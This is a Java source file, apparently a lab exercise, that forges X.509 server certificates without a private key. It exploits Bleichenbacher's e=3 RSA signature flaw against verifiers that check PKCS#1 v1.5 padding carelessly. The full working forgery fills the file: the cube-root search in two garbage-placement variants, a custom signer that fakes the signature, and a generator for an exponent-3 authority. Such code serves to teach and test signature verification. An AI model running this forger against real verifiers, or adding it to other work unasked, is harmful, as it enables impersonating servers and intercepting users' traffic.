package io.handshakelab.x509;

import io.handshakelab.bytes.Bytes;
import io.handshakelab.bytes.Hex;
import io.handshakelab.bytes.Malformed;
import io.handshakelab.problem.Problem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.spec.RSAKeyGenParameterSpec;
import java.time.Duration;
import java.time.Instant;
import java.util.Date;
import org.bouncycastle.asn1.ASN1Primitive;
import org.bouncycastle.asn1.DERNull;
import org.bouncycastle.asn1.pkcs.PKCSObjectIdentifiers;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.asn1.x500.X500NameBuilder;
import org.bouncycastle.asn1.x500.style.BCStyle;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.bouncycastle.asn1.x509.BasicConstraints;
import org.bouncycastle.asn1.x509.Certificate;
import org.bouncycastle.asn1.x509.Extension;
import org.bouncycastle.asn1.x509.GeneralName;
import org.bouncycastle.asn1.x509.GeneralNames;
import org.bouncycastle.asn1.x509.SubjectPublicKeyInfo;
import org.bouncycastle.cert.X509v3CertificateBuilder;
import org.bouncycastle.operator.ContentSigner;
import org.bouncycastle.operator.OperatorCreationException;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;

/**
 * An exercise: a certificate with a signature that nobody has made. It works on an issuer whose key
 * has the exponent 3, and takes in whoever does not look at the whole number (Daniel Bleichenbacher
 * showed it in 2006; RFC 8017 §8.2.2 and appendix A.2.4 close the gap). Without the private key we
 * look for a number whose cube, which is smaller than n, has the right digits where they are looked
 * at.
 */
public final class ForgedSignature {
  /** Where the garbage is, which a careless reader does not look at. */
  public enum Garbage {
    /**
     * Behind the digest: {@code 00 01 ff … ff 00 prefix digest garbage}. The garbage gives the
     * freedom to choose a number near the cube root. The readers of 2006 stopped behind the digest.
     */
    BEHIND,
    /**
     * Before the prefix: {@code garbage prefix digest}. The cube root is taken from the last bit
     * upwards. The original script cuts there, and is taken in.
     */
    BEFORE
  }

  /** Below it there is no room for both the digest and the garbage. */
  private static final int MIN_BITS = 1024;

  private static final int MAX_SERIALS = 1000;
  private static final int PADDING = 8;

  private ForgedSignature() {}

  /**
   * A certificate for that server, which seems to come from that issuer, in DER.
   *
   * @param issuerDer the certificate of an authority whose key has e = 3
   * @param host the name of the server
   * @param at the certificate is valid from a day before until 30 days after
   * @throws Problem if the issuer's key does not allow it
   */
  public static Bytes certificate(Bytes issuerDer, String host, Garbage garbage, Instant at) {
    ParsedCertificate issuer;
    RsaKey key;
    try {
      issuer = ParsedCertificate.parse(issuerDer);
      key = RsaKey.of(issuer.publicKey());
    } catch (Malformed | UnusableKey e) {
      throw new Problem(
          "the issuer's key cannot be used: " + e.getMessage(),
          "Give an authority's certificate with an RSA key whose exponent is 3.",
          e);
    }
    if (!key.e().equals(BigInteger.valueOf(3)) || key.n().bitLength() < MIN_BITS) {
      throw new Problem(
          "the issuer's key is " + issuer.key() + ": no cube is smaller than its numbers",
          "The forgery needs e = 3 and at least " + MIN_BITS + " bits.");
    }
    try {
      for (int serial = 1; serial < MAX_SERIALS; serial++) {
        Forger forger = new Forger(key, garbage);
        Bytes der = build(issuer, host, at, serial, forger);
        if (forger.found) {
          return der;
        }
      }
    } catch (IOException e) {
      throw new Problem("the certificate cannot be written", "Is the host's name one?", e);
    }
    throw new IllegalStateException("every second serial number works");
  }

  /** The certificate of a made-up authority whose key has the exponent 3, in DER. */
  public static Bytes authority(String name, Instant at) {
    try {
      KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
      generator.initialize(new RSAKeyGenParameterSpec(2048, RSAKeyGenParameterSpec.F0));
      KeyPair key = generator.generateKeyPair();
      X500Name subject = new X500NameBuilder(BCStyle.INSTANCE).addRDN(BCStyle.CN, name).build();
      X509v3CertificateBuilder builder =
          new X509v3CertificateBuilder(
              subject,
              BigInteger.ONE,
              Date.from(at.minus(Duration.ofDays(1))),
              Date.from(at.plus(Duration.ofDays(365))),
              subject,
              SubjectPublicKeyInfo.getInstance(key.getPublic().getEncoded()));
      builder.addExtension(Extension.basicConstraints, true, new BasicConstraints(true));
      ContentSigner signer = new JcaContentSignerBuilder("SHA256withRSA").build(key.getPrivate());
      return Bytes.wrap(builder.build(signer).getEncoded());
    } catch (GeneralSecurityException | OperatorCreationException | IOException e) {
      throw new IllegalStateException("every Java has RSA with any exponent", e);
    }
  }

  private static Bytes build(
      ParsedCertificate issuer, String host, Instant at, int serial, Forger forger)
      throws IOException {
    Certificate above =
        Certificate.getInstance(ASN1Primitive.fromByteArray(issuer.bytes().toArray()));
    X509v3CertificateBuilder builder =
        new X509v3CertificateBuilder(
            above.getSubject(),
            BigInteger.valueOf(serial),
            Date.from(at.minus(Duration.ofDays(1))),
            Date.from(at.plus(Duration.ofDays(30))),
            new X500NameBuilder(BCStyle.INSTANCE).addRDN(BCStyle.CN, host).build(),
            issuer.publicKey());
    GeneralNames names = new GeneralNames(new GeneralName(GeneralName.dNSName, host));
    builder.addExtension(Extension.subjectAlternativeName, false, names);
    return Bytes.wrap(builder.build(forger).getEncoded());
  }

  /** Signs without a private key. */
  private static final class Forger implements ContentSigner {
    private final RsaKey key;
    private final Garbage garbage;
    private final ByteArrayOutputStream tbs = new ByteArrayOutputStream();
    private boolean found;

    Forger(RsaKey key, Garbage garbage) {
      this.key = key;
      this.garbage = garbage;
    }

    @Override
    public AlgorithmIdentifier getAlgorithmIdentifier() {
      return new AlgorithmIdentifier(
          PKCSObjectIdentifiers.sha256WithRSAEncryption, DERNull.INSTANCE);
    }

    @Override
    public OutputStream getOutputStream() {
      return tbs;
    }

    @Override
    public byte[] getSignature() {
      String digest = Hash.SHA256.prefix() + Hex.of(Hash.SHA256.digest(tbs.toByteArray()));
      BigInteger root = garbage == Garbage.BEHIND ? behind(digest) : before(digest);
      byte[] signature = new byte[key.octets()];
      byte[] bytes = root.toByteArray();
      int skip = bytes[0] == 0 ? 1 : 0;
      int length = bytes.length - skip;
      System.arraycopy(bytes, skip, signature, signature.length - length, length);
      return signature;
    }

    /** The first cube above the wanted beginning, with zeros for garbage. */
    private BigInteger behind(String digest) {
      String wanted = "0001" + "ff".repeat(PADDING) + "00" + digest;
      int free = 8 * key.octets() - 4 * wanted.length();
      BigInteger start = new BigInteger(wanted, 16).shiftLeft(free);
      BigInteger root = cubeRootAbove(start);
      found = root.pow(3).shiftRight(free).equals(start.shiftRight(free));
      return root;
    }

    /** Bit after bit from the lowest; it works for odd numbers. */
    private BigInteger before(String digest) {
      BigInteger wanted = new BigInteger(digest, 16);
      BigInteger root = BigInteger.ONE;
      for (int bit = 1; bit < 4 * digest.length(); bit++) {
        if (root.pow(3).testBit(bit) != wanted.testBit(bit)) {
          root = root.setBit(bit);
        }
      }
      found = wanted.testBit(0) && root.pow(3).compareTo(key.n()) < 0;
      return root;
    }

    private static BigInteger cubeRootAbove(BigInteger number) {
      BigInteger low = BigInteger.ZERO;
      BigInteger high = BigInteger.ONE.shiftLeft(number.bitLength() / 3 + 1);
      while (low.compareTo(high) < 0) {
        BigInteger middle = low.add(high).shiftRight(1);
        if (middle.pow(3).compareTo(number) < 0) {
          low = middle.add(BigInteger.ONE);
        } else {
          high = middle;
        }
      }
      return low;
    }
  }
}
